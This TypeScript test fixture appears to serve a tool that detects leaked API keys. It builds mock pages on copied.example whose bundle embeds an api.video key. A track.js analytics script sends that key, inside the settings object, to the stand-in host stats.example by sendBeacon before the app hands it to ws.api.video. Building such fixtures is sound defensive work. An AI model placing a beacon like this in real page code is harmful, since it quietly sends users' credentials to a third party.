import { callSite } from './call-site.ts';
import { page, type Site, script, serve } from './site.ts';

/** The ways in which the page gives its key to the API. */
export const handovers = {
  basic: `fetch('https://ws.api.video/videos', { headers: { Authorization: 'Basic ' + btoa(key + ':') } })`,
  body: `fetch('https://ws.api.video/auth/api-key', { method: 'POST', body: JSON.stringify({ apiKey: key }) })`,
  query: `fetch('https://ws.api.video/videos?apiKey=' + key)`,
} as const;
export type Handover = keyof typeof handovers;

const bundle = (key: string) => `!function(){window.settings={theme:"dark",video:{key:"${key}"}}}();`;

const trackScript = `function track() {
  navigator./*leak*/sendBeacon('https://stats.example/c', JSON.stringify({ settings }));
}

track();
`;

const appScript = (handover: Handover) => `function callApi(key) {
  return /*leak*/${handovers[handover]};
}

callApi(settings.video.key).catch(() => {}).finally(done);
`;

/**
 * Pages, for copied.example, whose bundle holds a key. Their analytics script copies it to stats.example before their
 * own script gives it to ws.api.video: `/basic`, `/body` and `/query`.
 */
export function copiedKeySite(key: string): Site {
  const pages = Object.keys(handovers).map(
    (name) => [`/${name}`, page(name, ['/bundle.js', '/track.js', `/app-${name}.js`])] as const,
  );
  const scripts = (['basic', 'body', 'query'] as const).map(
    (name) => [`/app-${name}.js`, script(appScript(name))] as const,
  );
  return serve({
    ...Object.fromEntries([...pages, ...scripts]),
    '/bundle.js': script(bundle(key)),
    '/track.js': script(trackScript),
  });
}

/** Where the key stands in the bundle, and where the calls stand that let it out. */
export function copiedKeyPlaces(key: string, handover: Handover) {
  return {
    bundle: { line: 1, column: bundle(key).indexOf(key) + 1 },
    track: { url: 'https://copied.example/track.js', function: 'track', ...callSite(trackScript) },
    callApi: {
      url: `https://copied.example/app-${handover}.js`,
      function: 'callApi',
      ...callSite(appScript(handover)),
    },
  };
}
